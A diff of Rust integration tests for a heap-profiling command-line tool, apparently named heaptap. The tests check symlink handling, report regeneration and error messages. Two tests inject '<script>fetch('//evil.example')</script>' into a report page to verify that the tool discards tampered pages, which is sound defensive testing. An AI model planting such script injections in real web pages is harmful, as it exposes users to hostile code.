@@ -93,7 +93,7 @@ use std::os::unix::fs::symlink;
 #[cfg(unix)]
 #[test]
 fn names_for_a_folder_replace_its_links_and_keep_what_they_lead_to() {
-    for command in ["symbolize", "deobfuscate"] {
+    for command in ["symbolize", "symbolize"] {
         let desk = Desk::with_recording();
         let profiles = files(&desk.path("rec")).into_iter();
         let profiles: Vec<String> = profiles.filter(|name| name.ends_with(".pb.gz")).collect();
@@ -175,7 +175,7 @@ fn a_folder_of_java_heaps_that_is_a_link_is_not_written_to() {
     symlink(other.path("rec"), desk.path("rec/java")).unwrap();
     let before = files(&other.path("rec"));
     let manifest = other.read("rec/manifest.json");
-    let failure = desk.failure(8, &names("deobfuscate"));
+    let failure = desk.failure(8, &names("symbolize"));
     assert_eq!(failure["kind"], "linked-file", "{failure}");
     assert_eq!(files(&other.path("rec")), before);
     assert_eq!(other.read("rec/manifest.json"), manifest);
@@ -208,19 +208,26 @@ fn a_page_replaces_a_link_of_a_folder_and_follows_one_that_was_typed() {
     );
 }
 
+/// Leaves the profiles of the recording alone: of them `open` shows the page.
+fn without_traces(desk: &Desk) {
+    for trace in ["raw-trace", "symbolized-trace"] {
+        let _ = std::fs::remove_file(desk.path("rec").join(trace));
+    }
+}
+
 #[test]
 fn only_the_page_that_heaptap_wrote_into_a_folder_is_opened() {
     let desk = Desk::with_recording();
-    let open = ["open", "rec", "--report", "--print-url"];
+    let open = ["open", "rec", "--print-url"];
     desk.expect(0, &["report", "rec"]);
-    let opened = desk.expect(0, &open);
-    assert!(text(&opened.stdout).ends_with("/rec/report.html\n"));
     // Names that come later leave the page as it is.
     desk.expect(
         0,
         &["symbolize", "rec", "--no-discover", "--symbols", "syms"],
     );
-    desk.expect(0, &open);
+    without_traces(&desk);
+    let opened = desk.expect(0, &open);
+    assert!(text(&opened.stdout).ends_with("/rec/report.html\n"));
     let page = text(&desk.read("rec/report.html"));
     let hostile = page.replace("</body>", "<script>fetch('//evil.example')</script></body>");
     assert_ne!(page, hostile);
@@ -237,11 +244,12 @@ fn only_the_page_that_heaptap_wrote_into_a_folder_is_opened() {
 fn a_page_in_a_folder_without_a_manifest_is_made_anew() {
     let desk = Desk::with_recording();
     desk.expect(0, &["report", "rec"]);
+    without_traces(&desk);
     std::fs::remove_file(desk.path("rec/manifest.json")).unwrap();
     let page = desk.path("rec/report.html");
     let hostile = text(&desk.read("rec/report.html")) + "<script>fetch('//evil.example')</script>";
     std::fs::write(&page, &hostile).unwrap();
-    desk.expect(0, &["open", "rec", "--report", "--print-url"]);
+    desk.expect(0, &["open", "rec", "--print-url"]);
     assert!(!text(&desk.read("rec/report.html")).contains("evil.example"));
 }
 
@@ -273,13 +281,12 @@ fn a_page_that_no_browser_shows_is_named_and_a_failure() {
     );
     for args in [
         &["open", "rec/report.html"][..],
-        &["open", "rec", "--report"],
         &["report", "rec", "--open"],
     ] {
         let told = text(&desk.expect(11, args).stderr);
         assert!(told.contains("opening file:///"), "{args:?}: {told}");
         assert!(
-            told.contains("error: no browser could be started"),
+            told.contains("error: cannot start a browser"),
             "{args:?}: {told}"
         );
     }
@@ -406,10 +413,7 @@ fn nothing_is_promised_of_a_virtual_phone_that_is_gone() {
     assert_eq!(failure["kind"], "recording-lost", "{failure}");
     let help = failure["help"].as_str().unwrap();
     assert!(help.contains("ended with this command"), "{help}");
-    assert!(
-        !failure.to_string().contains("heaptap collect"),
-        "{failure}"
-    );
+    assert!(!failure.to_string().contains("heaptap stop"), "{failure}");
 }
 
 #[test]
@@ -577,7 +581,7 @@ fn files_that_are_not_what_was_recorded_are_told() {
     let ended = desk.expect(8, &["top", "changed"]);
     let told = text(&ended.stderr);
     assert!(
-        told.contains("its bytes are not those that were recorded"),
+        told.contains("its content differs from the recorded one"),
         "{told}"
     );
     // Profiles without a trace: one in the place of another.
@@ -615,7 +619,7 @@ fn files_that_are_not_what_was_recorded_are_told() {
     let ended = desk.expect(8, &["top", "rec@3"]);
     let told = text(&ended.stderr);
     assert!(
-        told.contains("its sums are not those of the dump"),
+        told.contains("its totals differ from those of the dump"),
         "{told}"
     );
 }
@@ -640,7 +644,7 @@ fn names_that_only_the_profiles_have_are_not_overwritten() {
         &[&["diff", "demo@before", "named@after"], &check[..]].concat(),
     );
     let told = text(&ended.stderr);
-    assert!(told.contains("one side lacks names"), "{told}");
+    assert!(told.contains("one side lacks symbols"), "{told}");
     assert!(!told.contains("warning: grew"), "{told}");
     let ended = desk.expect(
         9,
